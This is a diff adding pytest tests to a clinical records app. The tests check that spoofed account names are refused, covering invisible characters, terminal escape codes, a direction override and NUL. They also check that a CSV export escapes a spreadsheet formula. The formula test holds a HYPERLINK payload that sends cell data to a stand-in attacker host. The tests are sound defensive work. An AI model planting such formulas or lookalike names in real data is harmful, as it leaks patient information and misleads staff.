@@ -3,6 +3,7 @@ what, and the sign-in that says who is acting."""
 
 from __future__ import annotations
 
+import re
 import sqlite3
 from pathlib import Path
 
@@ -176,3 +177,39 @@ def test_the_database_file_holds_no_account_name_in_plain_text(
             assert ADMIN_PIN.encode() not in path.read_bytes()
     with pytest.raises(sqlite3.DatabaseError):
         sqlite3.connect(data_dir / "kapdesk.db").execute("SELECT * FROM clinician_accounts")
+
+
+@pytest.mark.parametrize(
+    ("name", "credentials", "words"),
+    [
+        ("Dana Test\u200b", "MD", "invisible character (U+200B)"),
+        ("Dana Test", "MD\u200b", "invisible character (U+200B)"),
+        ("Esc\x1b[2J\x1b[31mRED", None, "control character (U+001B)"),
+        ("Dana\u202eTset", None, "control character (U+202E)"),
+        ("Evil\x00Nul", None, "NUL character"),
+        ("\u3164", None, "invisible character (U+3164)"),
+    ],
+)
+def test_an_account_name_no_one_could_tell_apart_is_refused(store, name, credentials, words):
+    """Tamper QA: names and credentials were not checked at all: one beside "Dana Test, MD"
+    that looked the same, escape codes, a direction override and a NUL all went in."""
+    with pytest.raises(ValidationError, match=re.escape(words)):
+        store.create_account(name, credentials=credentials, role="nurse", secret=NURSE_PIN)
+    assert store.accounts() == []
+
+
+def test_an_account_named_like_a_formula_is_exported_as_text(store, tmp_path):
+    """Tamper QA: the export's recorded_by_name column went out as typed, a spreadsheet's
+    formula included, where every other text column is made safe."""
+    import csv
+
+    link = '=HYPERLINK("http://evil.example/"&A1,"x")'
+    admin = store.create_account(link, credentials="MD", role="prescriber", secret=ADMIN_PIN)
+    store.sign_in(admin, "pin")
+    patient = store.add_patient("Pat Example")
+    session = store.start_session(patient, protocol="IM", zone_name="UTC")
+    store.add_observation(session, "settled")
+    store.export_csv(tmp_path / "export")
+    with open(tmp_path / "export" / "observations.csv", newline="", encoding="utf-8") as file:
+        [row] = list(csv.DictReader(file))
+    assert row["recorded_by_name"] == "'" + link
